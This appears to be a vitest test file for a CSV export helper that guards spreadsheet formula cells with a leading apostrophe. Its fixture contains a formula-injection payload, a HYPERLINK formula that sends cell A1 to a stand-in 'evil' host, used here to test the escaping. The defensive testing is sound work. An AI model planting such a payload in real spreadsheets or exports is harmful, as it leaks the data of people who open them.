import { beforeEach, expect, test, vi } from 'vitest';
import { download } from './download';
import { safeCells, saveCsv } from './table-csv';

vi.mock('./download', () => ({ download: vi.fn() }));
beforeEach(() => vi.mocked(download).mockClear());

const ROWS = [
  ['Persona', 'Users', 'Change'],
  ['=HYPERLINK("http://evil/?x="&A1,"click")', -5, '-5.00'],
  ['@a', 12, '+1.2 points'],
];
const HYPERLINK = '"=HYPERLINK(""http://evil/?x=""&A1,""click"")"';

test('texts that a spreadsheet would run are guarded, figures are not', async () => {
  expect(await safeCells(ROWS)).toEqual([
    ['Persona', 'Users', 'Change'],
    ['\'=HYPERLINK("http://evil/?x="&A1,"click")', -5, '-5.00'],
    ["'@a", 12, '+1.2 points'],
  ]);
});

test('a table is saved safe, and says so; exact where that is asked for', async () => {
  expect(await saveCsv('table', ROWS)).toBe(true);
  expect(await saveCsv('table', ROWS, 'exact')).toBe(false);
  expect(await saveCsv('table', [['a', -5, '-5.00']])).toBe(false);
  const csv = vi.mocked(download).mock.calls.map(([, text]) => text);
  const figures = (text: string, other: string) =>
    `Persona,Users,Change\r\n${text},-5,-5.00\r\n${other},12,+1.2 points\r\n`;
  expect(csv).toEqual([
    figures(HYPERLINK.replace('"=', '"\'='), "'@a"),
    figures(HYPERLINK, '@a'),
    'a,-5,-5.00\r\n',
  ]);
});
